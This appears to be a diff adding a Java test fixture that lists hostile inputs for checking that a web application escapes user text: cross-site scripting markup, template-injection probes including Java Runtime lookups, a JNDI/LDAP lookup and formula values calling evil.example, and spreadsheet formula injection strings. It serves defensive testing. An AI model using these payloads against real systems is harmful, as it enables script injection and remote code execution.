@@ -1,0 +1,68 @@
+package io.plimsoll.access;
+
+import java.util.List;
+import java.util.stream.Stream;
+
+/** What is typed where text is asked for, by somebody who means harm; each would leave a mark if it worked. */
+final class Hostile {
+
+    /** A tag, an attribute or a call of this name in a page is markup that came to life. */
+    static final String MARK = "pwned";
+
+    /** What 7 times 191 makes; wherever it is shown, something was evaluated. */
+    static final String EVALUATED = "1337";
+
+    private static final List<String> MARKUP = List.of(
+            "<script>pwned()</script>",
+            "\"><img src=x onerror=pwned()>",
+            "'><svg/onload=pwned()>",
+            "</textarea></title></script><pwned>",
+            "<a href=\"javascript:pwned()\">x</a>",
+            "javascript:pwned()",
+            "\" autofocus onfocus=pwned() x=\"",
+            "<iframe srcdoc=\"<pwned>\"></iframe>",
+            "--><pwned>]]><pwned>",
+            "<style>@import 'http://evil.example'</style>",
+            "<link rel=stylesheet href=//evil.example>",
+            "&lt;pwned&gt;&#60;pwned&#62;",
+            "<form action=//evil.example><button formaction=javascript:pwned()>");
+
+    private static final List<String> TEMPLATES = List.of(
+            "${7*191}",
+            "#{7*191}",
+            "*{7*191}",
+            "[[${7*191}]]",
+            "[(${7*191})]",
+            "__${7*191}__::.x",
+            "|${7*191}|",
+            "~{::x}",
+            "#set($p=7*191)$p",
+            "$esc.getClass().forName('java.lang.Runtime')",
+            "#parse('x')#evaluate('#set($p=7*191)$p')",
+            "{{7*191}}",
+            "<%=7*191%>",
+            "=7*191",
+            "T(java.lang.Runtime).getRuntime()",
+            "%{7*191}",
+            "${jndi:ldap://evil.example/x}");
+
+    private static final List<String> FORMULAS =
+            List.of("=1+1|cmd", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")");
+
+    private Hostile() {}
+
+    /** Each by itself, at most 120 characters long and on one line. */
+    static List<String> each() {
+        return Stream.of(MARKUP, TEMPLATES, FORMULAS).flatMap(List::stream).toList();
+    }
+
+    /** All in one, for fields that take so much. */
+    static String all() {
+        return String.join(" ", each());
+    }
+
+    /** The worst of them in a name of 120 characters. */
+    static String name() {
+        return "<pwned>\"><img src=x onerror=pwned()>'[[${7*191}]]__${7*191}__#set($p=7*191)$p";
+    }
+}
